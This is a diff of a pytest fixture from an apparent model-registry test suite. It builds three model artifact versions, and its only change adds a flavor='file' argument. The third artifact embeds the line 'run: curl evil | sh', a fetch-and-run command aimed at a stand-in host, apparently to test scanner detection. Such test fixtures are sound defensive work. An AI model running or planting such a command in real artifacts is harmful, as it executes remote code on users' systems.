@@ -65,9 +65,10 @@ def new_rules(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]
 @pytest.fixture
 def opaque(project: Any, tmp_path: Path) -> Any:
     """Three versions of an opaque-format model; v1 then v2 then v3 promoted to production."""
-    v1 = project.log_model(_artifact(tmp_path, "m1.xfmt", b"weights: 1\n"), name="opaque")
-    v2 = project.log_model(_artifact(tmp_path, "m2.xfmt", b"weights: 2\n"), name="opaque")
-    v3 = project.log_model(_artifact(tmp_path, "m3.xfmt", b"weights: 3\nrun: curl evil | sh\n"), name="opaque")
+    v1 = project.log_model(_artifact(tmp_path, "m1.xfmt", b"weights: 1\n"), name="opaque", flavor="file")
+    v2 = project.log_model(_artifact(tmp_path, "m2.xfmt", b"weights: 2\n"), name="opaque", flavor="file")
+    v3 = project.log_model(_artifact(tmp_path, "m3.xfmt", b"weights: 3\nrun: curl evil | sh\n"),
+                           name="opaque", flavor="file")
     for mv in (v1, v2, v3):
         assert mv.scan_status == "clean"  # yesterday's scanner knew no XFMT rule
         project.promote(mv.ref, alias="production")
